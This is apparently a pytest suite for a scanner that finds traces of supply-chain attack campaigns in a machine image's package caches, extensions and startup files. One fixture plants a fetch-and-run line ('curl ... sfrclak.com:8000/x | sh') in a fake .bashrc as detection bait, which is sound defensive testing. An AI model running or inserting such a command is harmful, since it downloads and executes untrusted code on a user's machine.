"""A machine is triaged from its files alone: fake roots of each system, with what real clients leave there."""

from __future__ import annotations

import hashlib
import io
import json
import os
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import jsonschema_rs
import pytest

from scanner import reports
from scanner.errors import InputError
from scanner.matching import host_paths
from scanner.model.campaign import IndicatorType
from scanner.model.finding import State
from scanner.model.inventory import ReadStatus
from scanner.model.report import Report
from scanner.pipeline import host as hosts
from scanner.pipeline.host import scan_host
from scanner.pipeline.host_search import HostSearch
from scanner.pipeline.scan import Settings
from scanner.policy import gate
from scanner.targets.host import Host, Platform, open_host
from scanner.targets.host_places import PLACES, SEARCHED
from tests import factories
from tests.conftest import ROOT
from tests.support import registry_host

NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
INTEL = Path()


@pytest.fixture(scope="module", autouse=True)
def intel(tmp_path_factory: pytest.TempPathFactory) -> None:
    """One place for the compiled campaigns: compiling them takes longer than all machines together."""
    global INTEL
    INTEL = tmp_path_factory.mktemp("intel")


@pytest.fixture
def put(tmp_path: Path) -> Callable[[str, str | bytes], Path]:
    """Write a file of the machine."""

    def write(path: str, content: str | bytes = "") -> Path:
        full = tmp_path / "machine" / path
        full.parent.mkdir(parents=True, exist_ok=True)
        full.write_bytes(content.encode() if isinstance(content, str) else content)
        return full

    (tmp_path / "machine").mkdir()
    return write


Put = Callable[..., Path]


def look(root: Path, fail_on: str | None = None) -> Report:
    settings = Settings(
        intel_directory=INTEL, now=lambda: NOW, gate=gate.parse(fail_on), environ={"HOME": "/x"}, home=Path("/nowhere")
    )
    return scan_host(root / "machine", settings)


def machine(root: Path) -> Host:
    return open_host(root / "machine", {}, Path("/nowhere"))


def purls(root: Path, kind: str) -> list[str]:
    (place,) = (place for place in PLACES if place.kind == kind)
    found = list(hosts.stores(machine(root), place))
    assert [problem for reading in found for problem in reading.problems if not problem.harmless] == []
    return sorted(str(component.purl) for reading in found for component in reading.components)


def index_line(key: str, integrity: str | None) -> str:
    entry = json.dumps({"key": key, "integrity": integrity, "time": 1, "size": 1})
    return f"\n{hashlib.sha1(entry.encode()).hexdigest()}\t{entry}"


def wheel(name: str, version: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(f"{name}/__init__.py", "")
        archive.writestr(f"{name}-{version}.dist-info/METADATA", f"Name: {name}\nVersion: {version}\n")
    return out.getvalue()


def sdist(name: str, version: str) -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo(f"{name}-{version}/PKG-INFO"))
    return out.getvalue()


def test_npms_cache(put: Put, tmp_path: Path) -> None:
    registry = f"https://{registry_host()}"
    put(
        "home/ann/.npm/_cacache/index-v5/aa/bb/cc",
        index_line(f"make-fetch-happen:request-cache:{registry}/axios/-/axios-1.14.1.tgz", "sha512-AAAA")
        + index_line(f"make-fetch-happen:request-cache:{registry}/axios", "sha512-BBBB"),
    )
    put(
        "home/ann/.npm/_cacache/index-v5/dd/ee/ff",
        index_line("pacote:tarball:@scope/name@2.0.0-rc.1", "sha512-CCCC")
        + index_line(f"make-fetch-happen:request-cache:{registry}/@scope%2fother/-/other-1.0.0.tgz", None)
        + index_line("make-fetch-happen:request-cache:https://codeload.example.invalid/a/b.tgz", "sha512-DDDD"),
    )
    assert purls(tmp_path, "npm-cache") == [
        "pkg:npm/%40scope/name@2.0.0-rc.1",
        "pkg:npm/%40scope/other@1.0.0",
        "pkg:npm/axios@1.14.1",
    ]
    report = look(tmp_path)
    (finding,) = report.findings
    assert finding.state is State.CERTAIN
    assert finding.evidence[0].location.path == "/home/ann/.npm/_cacache/index-v5/aa/bb/cc"
    assert finding.evidence[0].location.line == 2
    assert report.exit_code == 1


def test_a_broken_line_of_an_index_is_one_problem(put: Put, tmp_path: Path) -> None:
    put("home/ann/.npm/_cacache/index-v5/aa/bb/cc", "abc\t{broken" + index_line("pacote:tarball:a@1.0.0", None))
    report = look(tmp_path)
    assert [problem.what for problem in report.coverage.problems] == ["an entry of the index that is broken"]
    assert report.coverage.components_read == 1


def test_the_other_stores_of_javascript(put: Put, tmp_path: Path) -> None:
    package = json.dumps({"name": "axios", "version": "1.2.3"})
    put("home/ann/.cache/yarn/v6/npm-axios-1.2.3-abc-integrity/node_modules/axios/package.json", package)
    put("home/ann/.npm/_npx/0123/node_modules/axios/package.json", package)
    put("home/ann/.npm/_npx/0123/node_modules/axios/test/package.json", json.dumps({"name": "no", "version": "1.0.0"}))
    put("usr/lib/node_modules/axios/package.json", package)
    put("home/ann/.nvm/versions/node/v22.1.0/lib/node_modules/@s/b/package.json", package.replace("axios", "@s/b"))
    digits = hashlib.sha512(b"x").hexdigest()
    put(f"home/ann/.local/share/pnpm/store/v3/files/{digits[:2]}/{digits[2:]}-index.json", package)
    put(f"home/ann/.local/share/pnpm/store/v3/files/{digits[:2]}/{digits[2:]}", "content")
    put(f"home/ann/.local/share/pnpm/store/v10/index/00/{'0' * 62}-@s+b@1.0.0.json", json.dumps({"files": {}}))
    put("home/ann/.yarn/berry/cache/axios-npm-1.2.3-0123456789-10c0.zip")
    put("home/ann/.yarn/berry/cache/@types-node-npm-20.1.0-0123456789-8.zip")
    (tmp_path / "machine/home/ann/.bun/install/cache/axios@1.2.3@@@1").mkdir(parents=True)
    (tmp_path / "machine/home/ann/.bun/install/cache/@s/b@1.0.0@@@1").mkdir(parents=True)
    assert purls(tmp_path, "yarn-cache") == ["pkg:npm/axios@1.2.3"]
    assert purls(tmp_path, "npx-cache") == ["pkg:npm/axios@1.2.3"]
    assert purls(tmp_path, "npm-global") == ["pkg:npm/%40s/b@1.2.3", "pkg:npm/axios@1.2.3"]
    assert purls(tmp_path, "pnpm-store") == ["pkg:npm/%40s/b@1.0.0", "pkg:npm/axios@1.2.3"]
    assert purls(tmp_path, "yarn-berry-cache") == ["pkg:npm/%40types/node@20.1.0", "pkg:npm/axios@1.2.3"]
    assert purls(tmp_path, "bun-cache") == ["pkg:npm/%40s/b@1.0.0", "pkg:npm/axios@1.2.3"]
    (place,) = (place for place in PLACES if place.kind == "pnpm-store")
    digests = [one.digests for reading in hosts.stores(machine(tmp_path), place) for one in reading.components]
    assert (f"sha512-{__import__('base64').b64encode(hashlib.sha512(b'x').digest()).decode()}",) in digests


def test_the_stores_of_python(put: Put, tmp_path: Path) -> None:
    put("home/ann/.cache/pip/wheels/aa/bb/cc/built_here-1.0-py3-none-any.whl")
    put("home/ann/.cache/pip/http-v2/a/b/c/d/e/0123.body", wheel("some_wheel", "2.0"))
    put("home/ann/.cache/pip/http-v2/a/b/c/d/e/0124.body", sdist("some-sdist", "3.0"))
    put("home/ann/.cache/pip/http-v2/a/b/c/d/e/0125.body", "<html>an index page</html>")
    put("home/ann/.cache/pip/http-v2/a/b/c/d/e/0126.body", b"PK\x03\x04 torn")
    put("home/ann/.cache/uv/archive-v0/xyz/flask-3.0.0.dist-info/METADATA", "Name: flask\n")
    put("home/ann/.cache/uv/wheels-v8/index/click/8.1.8-py3-none-any.msgpack")
    metadata = "Metadata-Version: 2.1\nName: ultralytics\nVersion: 8.3.41\n"
    put(
        "home/ann/.local/share/pipx/venvs/u/lib/python3.12/site-packages/ultralytics-8.3.41.dist-info/METADATA",
        metadata,
    )
    put("home/ann/.local/lib/python3.12/site-packages/a-1.dist-info/METADATA", "Name: a\nVersion: 1\n")
    assert purls(tmp_path, "pip-cache") == [
        "pkg:pypi/built-here@1.0",
        "pkg:pypi/some-sdist@3.0",
        "pkg:pypi/some-wheel@2.0",
    ]
    assert purls(tmp_path, "uv-cache") == ["pkg:pypi/click@8.1.8", "pkg:pypi/flask@3.0.0"]
    assert purls(tmp_path, "python-global") == ["pkg:pypi/a@1"]
    (finding,) = look(tmp_path).findings
    assert finding.campaign is not None
    assert finding.campaign.id == "ultralytics-2024"
    assert finding.evidence[0].location.path.startswith("/home/ann/.local/share/pipx/")


def test_the_stores_of_other_languages(put: Put, tmp_path: Path) -> None:
    home = "home/ann"
    put(f"{home}/.cargo/registry/cache/index.example-0123/serde_json-1.0.1+x.crate")
    put(f"{home}/go/pkg/mod/cache/download/github.com/!azure/go-x/v2/@v/v2.0.1-0.20240101000000-abcdefabcdef.zip")
    put(
        f"{home}/go/pkg/mod/cache/download/github.com/!azure/go-x/v2/@v/v2.0.1-0.20240101000000-abcdefabcdef.ziphash",
        "h1:x=",
    )
    put(f"{home}/go/pkg/mod/cache/download/github.com/only/asked/@v/v1.0.0.mod")
    put("var/lib/gems/3.1.0/specifications/rest-client-1.6.13.gemspec")
    put("var/lib/gems/3.1.0/specifications/nokogiri-1.16.0-x86_64-linux.gemspec")
    put(f"{home}/.m2/repository/org/apache/logging/log4j-core/2.14.1/log4j-core-2.14.1.jar")
    put(f"{home}/.m2/repository/org/apache/logging/log4j-core/2.14.1/log4j-core-2.14.1.jar.sha1", "a" * 40 + "\n")
    put(f"{home}/.gradle/caches/modules-2/files-2.1/com.example/lib/1.0/{'b' * 40}/lib-1.0.jar")
    put(f"{home}/.nuget/packages/newtonsoft.json/13.0.1/newtonsoft.json.13.0.1.nupkg.sha512", "QUJD")
    assert purls(tmp_path, "cargo-cache") == ["pkg:cargo/serde_json@1.0.1%2Bx"]
    assert purls(tmp_path, "go-cache") == ["pkg:golang/github.com/Azure/go-x/v2@v2.0.1-0.20240101000000-abcdefabcdef"]
    assert purls(tmp_path, "gem") == ["pkg:gem/nokogiri@1.16.0", "pkg:gem/rest-client@1.6.13"]
    assert purls(tmp_path, "maven-repository") == ["pkg:maven/org.apache.logging/log4j-core@2.14.1"]
    assert purls(tmp_path, "gradle-cache") == ["pkg:maven/com.example/lib@1.0"]
    assert purls(tmp_path, "nuget-packages") == ["pkg:nuget/newtonsoft.json@13.0.1"]


def test_extensions_of_editors_and_browsers(put: Put, tmp_path: Path) -> None:
    extension = {"publisher": "AadarkCode", "name": "one-dark-material", "version": "3.20.1"}
    put("home/ann/.cursor/extensions/aadarkcode.one-dark-material-3.20.1/package.json", json.dumps(extension))
    put("home/ann/.vscode/extensions/extensions.json", "[]")
    put("home/ann/.vscode/extensions/broken/package.json", "{")
    put("home/ann/.config/google-chrome/Default/Extensions/nafkmlanpinblehjeebdjaolelielbgc/1.2_0/manifest.json", "{}")
    report = look(tmp_path)
    campaigns = {finding.campaign.id for finding in report.findings if finding.campaign}
    assert "glassworm-2025-2026" in campaigns
    assert any("an extension that cannot be read" in problem.what for problem in report.coverage.problems)
    assert purls(tmp_path, "chrome-extensions") == ["pkg:chrome-extension/nafkmlanpinblehjeebdjaolelielbgc@1.2"]


def test_a_dropped_file_is_found_with_its_digest(put: Put, tmp_path: Path) -> None:
    put("tmp/ld.py", "inert")
    put("home/ann/.profile", "")
    (finding,) = look(tmp_path).findings
    assert finding.state is State.CERTAIN
    assert finding.campaign is not None
    assert finding.campaign.id == "axios-unc1069-2026-03"
    (evidence,) = finding.evidence
    assert evidence.location.path == "/tmp/ld.py"
    assert evidence.excerpt == f"sha256:{hashlib.sha256(b'inert').hexdigest()}, 5 bytes"


def test_names_without_a_place_are_asked_where_things_start_or_are_dropped(put: Put, tmp_path: Path) -> None:
    put("home/ann/.config/systemd/user/nvmconf.service", "[Service]\n")
    put("home/bob/.pkg_history", "inert")
    put("home/bob/projects/deep/.pkg_logs", "inert")  # nobody looks through everybody's projects
    found = {evidence.location.path: finding for finding in look(tmp_path).findings for evidence in finding.evidence}
    assert set(found) == {"/home/ann/.config/systemd/user/nvmconf.service", "/home/bob/.pkg_history"}
    assert {finding.state for finding in found.values()} == {State.POSSIBLE}


def test_what_starts_by_itself_is_searched_for_the_campaigns_addresses(put: Put, tmp_path: Path) -> None:
    put("home/ann/.bashrc", "alias ll='ls -l'\ncurl -s http://sfrclak.com:8000/x | sh\n")
    put("home/ann/notes.txt", "we saw sfrclak.com in the logs\n")
    put("home/ann/findings.json", '{"domain": "sfrclak.com"}\n')
    put("home/ann/x.py", "get('sfrclak.com')\n")
    paths = {evidence.location.path for finding in look(tmp_path).findings for evidence in finding.evidence}
    assert paths == {"/home/ann/.bashrc", "/home/ann/x.py"}


def test_windows_is_told_by_its_folders_and_does_not_mind_case(put: Put, tmp_path: Path) -> None:
    put("Windows/System32/kernel32.dll")
    put("Users/Ann/AppData/roaming/BLUETOOTH/Log.dll", "inert")
    put("ProgramData/NodePackages/x", "inert")
    put("Users/Public/desktop.ini")
    package = json.dumps({"name": "axios", "version": "1.14.1"})
    put("Users/Ann/AppData/roaming/npm/node_modules/axios/package.json", package)
    host = machine(tmp_path)
    assert (host.platform, host.homes) == (Platform.WINDOWS, ("Users/Ann",))
    assert host.look("C:\\windows\\SYSTEM32\\kernel32.dll") == ["Windows/System32/kernel32.dll"]
    assert host.look("/tmp/ld.py") == []
    report = look(tmp_path)
    found = {evidence.location.path: finding.state for finding in report.findings for evidence in finding.evidence}
    assert found["/Users/Ann/AppData/roaming/BLUETOOTH/Log.dll"] is State.CERTAIN
    assert found["/ProgramData/NodePackages"] is State.CERTAIN
    assert found["/Users/Ann/AppData/roaming/npm/node_modules/axios/package.json"] is State.CERTAIN


def test_macos_is_told_by_its_folders(put: Put, tmp_path: Path) -> None:
    put("System/Library/x")
    put("Library/Caches/com.apple.act.mond", "inert")
    put("Users/ann/Library/LaunchAgents/com.nvm.protocal.plist", "inert")
    put("private/tmp/ld.py", "inert")
    (tmp_path / "machine/tmp").symlink_to("private/tmp")
    host = machine(tmp_path)
    assert (host.platform, host.homes) == (Platform.MACOS, ("Users/ann",))
    paths = {evidence.location.path for finding in look(tmp_path).findings for evidence in finding.evidence}
    assert paths == {
        "/Library/Caches/com.apple.act.mond",
        "/Users/ann/Library/LaunchAgents/com.nvm.protocal.plist",
        "/private/tmp/ld.py",
    }


def test_links_are_those_of_the_image_and_never_lead_to_our_own_machine(put: Put, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "ld.py").write_text("ours")
    put("var/home/ann/.profile", "")
    root = tmp_path / "machine"
    (root / "home").symlink_to("/var/home")
    (root / "tmp").symlink_to(outside)
    (root / "var/home/ann/.npm").symlink_to("../../../../../../../../outside")
    (root / "var/home/ann/loop").symlink_to("loop")
    host = machine(tmp_path)
    assert host.homes == ("var/home/ann",)
    assert host.look("/tmp/ld.py") == []
    assert host.resolve("/home/ann/loop") is None
    assert host.resolve("/home/ann/../../../../etc") is None
    assert look(tmp_path).findings == ()


def test_nothing_is_written_and_no_pipe_is_waited_for(put: Put, tmp_path: Path) -> None:
    put("tmp/ld.py", "inert")
    put("home/ann/.npm/_cacache/index-v5/aa/bb/cc", index_line("pacote:tarball:a@1.0.0", None))
    os.mkfifo(tmp_path / "machine/tmp/pipe")
    os.mkfifo(tmp_path / "machine/home/ann/.bashrc")

    def state() -> list[tuple[str, int, int]]:
        return [
            (str(path), path.lstat().st_mtime_ns, path.lstat().st_size)
            for path in sorted((tmp_path / "machine").rglob("*"))
        ]

    before = state()
    assert len(look(tmp_path).findings) == 1
    assert state() == before


def test_a_home_that_may_not_be_read_stands_in_the_ledger(
    put: Put, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put("home/ann/.npm/_cacache/index-v5/aa/bb/cc", index_line("pacote:tarball:a@1.0.0", None))
    put("home/eve/.profile", "")
    original = os.listdir

    def refusing(path: Any = ".") -> Any:
        if str(path).endswith("home/eve"):
            raise PermissionError(13, "Permission denied")
        return original(path)

    monkeypatch.setattr(os, "listdir", refusing)  # the tests may run as root, who may read everything
    report = look(tmp_path)
    (problem,) = report.coverage.problems
    assert problem.where == "/home/eve"
    assert problem.hint == "run it as that person, or as root"
    assert report.exit_code == 3


def test_what_is_not_there_stands_in_the_ledger(put: Put, tmp_path: Path) -> None:
    put("home/ann/.cargo/registry/cache/i/a-1.0.0.crate")
    report = look(tmp_path)
    lines = {file.reader: file for file in report.coverage.files}
    assert set(lines) == {place.kind for place in (*PLACES, *SEARCHED)} | {"campaign-paths"}
    assert (lines["cargo-cache"].status, lines["cargo-cache"].components) == (ReadStatus.READ, 1)
    assert lines["npm-cache"].status is ReadStatus.SKIPPED
    assert (lines["npm-cache"].reason or "").startswith("not there: ~/.npm/_cacache/index-v5")
    out = io.StringIO()
    reports.writer("json")(report, out)
    schema = json.loads((ROOT / "docs/schemas/pratique-report-1.schema.json").read_text())
    errors = jsonschema_rs.validator_for(schema).iter_errors(json.loads(out.getvalue()))
    assert [error.message for error in errors] == []


def test_a_root_that_is_no_folder_says_so(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="not a folder"):
        look(tmp_path / "nowhere")


def test_known_files_are_told_by_digest_wherever_they_were_dropped(put: Put, tmp_path: Path) -> None:
    put("home/ann/harmless.bin", "inert")
    digest = f"sha256:{hashlib.sha256(b'inert').hexdigest()}"
    known = factories.knowledge(
        tmp_path / "db", campaigns=[factories.campaign(factories.indicator(IndicatorType.DIGEST, digest))]
    )
    search = HostSearch(machine(tmp_path), known, lambda _: None)
    for place in SEARCHED:
        search.place(place)
    assert [(path, sign.key) for path, file in search.signs.items() for sign in file.signs] == [
        ("/home/ann/harmless.bin", digest)
    ]


def test_paths_of_machines_in_every_spelling(put: Put, tmp_path: Path) -> None:
    put("home/ann/.config/x/evil", "1")
    put("home/bob/.config/x/evil", "1")
    put("tmp/a*b", "1")
    put("tmp/axb", "1")
    values = ("~/.config/x/evil", "$HOME/.config/x/evil", "/tmp/a*b", "$TMPDIR/axb", "%TEMP%\\axb", "C:\\x", "name.js")
    indicators = [factories.indicator(IndicatorType.PATH, value) for value in values]
    known = factories.knowledge(tmp_path / "db", campaigns=[factories.campaign(*indicators)])
    found = {(sign.key, sign.value) for sign in host_paths.match(known, machine(tmp_path).look)}
    assert found == {
        ("~/.config/x/evil", "/home/ann/.config/x/evil"),
        ("~/.config/x/evil", "/home/bob/.config/x/evil"),
        ("$HOME/.config/x/evil", "/home/ann/.config/x/evil"),
        ("$HOME/.config/x/evil", "/home/bob/.config/x/evil"),
        ("/tmp/a*b", "/tmp/a*b"),
        ("$TMPDIR/axb", "/tmp/axb"),
    }


def test_the_machine_itself_heeds_its_variables(tmp_path: Path) -> None:
    live = open_host(Path("/"), {"CARGO_HOME": str(tmp_path)}, tmp_path)
    assert tmp_path.resolve().as_posix().lstrip("/") in live.homes
    (tmp_path / "registry/cache").mkdir(parents=True)
    assert live.find("$CARGO_HOME/registry/cache") == [f"{tmp_path.resolve().as_posix().lstrip('/')}/registry/cache"]
    assert machine_variables(tmp_path) == {}


def machine_variables(tmp_path: Path) -> dict[str, str]:
    """An image is another machine: our variables say nothing about it."""
    (tmp_path / "machine").mkdir()
    return dict(open_host(tmp_path / "machine", {"CARGO_HOME": "/x"}, Path("/x")).environ)


def test_every_reader_of_the_table_is_there() -> None:
    assert {place.reader for place in PLACES} == set(hosts.READERS)
